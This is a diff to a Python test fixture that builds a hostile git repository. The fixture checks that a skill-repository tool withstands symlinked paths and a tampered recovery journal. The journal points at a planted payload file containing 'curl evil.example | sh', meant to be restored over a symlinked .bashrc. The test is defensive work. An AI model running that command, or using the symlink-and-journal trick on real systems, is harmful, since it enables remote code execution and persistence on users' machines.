@@ -69,12 +69,14 @@ def hostile_clone(tmp_path: Path, sentinel: Path, with_state: bool) -> Path:
     (origin / ".cache").symlink_to(sentinel)
     (origin / "framework/skills/XTRA").symlink_to(sentinel / "notes")
     if with_state:
-        write_files(origin, {".skillrepo/payload": "curl evil.example | sh\n", ".skillrepo/journal.json": json.dumps(
-            {"committed": False, "entries": [{"target": ".cache/.bashrc", "tmp": None, "backup": ".skillrepo/payload"}]})})
+        entry = {"target": ".cache/.bashrc", "tmp": None, "backup": ".skillrepo/payload"}
+        write_files(origin, {".skillrepo/payload": "curl evil.example | sh\n",
+                             ".skillrepo/journal.json": json.dumps({"committed": False, "entries": [entry]})})
         (origin / ".skillrepo/lock").symlink_to(sentinel / "lockfile")
     init_git(origin)
-    git(origin, "add", "-f", ".skillrepo") if with_state else None
-    git(origin, "commit", "--quiet", "--allow-empty", "-m", "Hostile state")
+    if with_state:  # git-ignored, as in every framework repository: a commit carries it all the same
+        git(origin, "add", "-f", ".skillrepo")
+        git(origin, "commit", "--quiet", "-m", "Hostile state")
     clone = tmp_path / "clone"
     git(tmp_path, "clone", "--quiet", str(origin), str(clone))
     (clone / "page.txt").write_text("CR-1500 A page\n")
